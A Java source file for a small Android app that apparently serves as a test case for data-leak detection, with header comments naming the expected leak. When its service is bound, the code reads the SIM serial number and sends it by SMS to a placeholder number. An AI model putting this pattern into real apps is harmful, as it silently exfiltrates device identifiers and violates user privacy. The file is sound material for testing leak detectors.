// about       The service is bound, so that onBind, which sends, is called.
// leak        DEV_ICCID sms
// service     cn.example.flow.MainActivity$Reporter
package cn.example.flow;

import android.app.Activity;
import android.app.Service;
import android.content.ComponentName;
import android.content.Intent;
import android.content.ServiceConnection;
import android.os.Binder;
import android.os.IBinder;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class MainActivity extends Activity implements ServiceConnection {
  @Override
  protected void onStart() {
    super.onStart();
    Intent intent = new Intent(this, Reporter.class);
    // Two ways to call a service, two callbacks.
    bindService(intent, this, BIND_AUTO_CREATE);
  }

  @Override
  protected void onStop() {
    unbindService(this);
    super.onStop();
  }

  @Override
  public void onServiceConnected(ComponentName name, IBinder binder) {}

  @Override
  public void onServiceDisconnected(ComponentName name) {}

  public static class Reporter extends Service {
    private String id;

    @Override
    public void onCreate() {
      super.onCreate();
      id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int number) {
      Log.i("reporter", "started");
      return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
      SmsManager.getDefault().sendTextMessage("5550100", null, id, null, null);
      return new Binder();
    }
  }
}
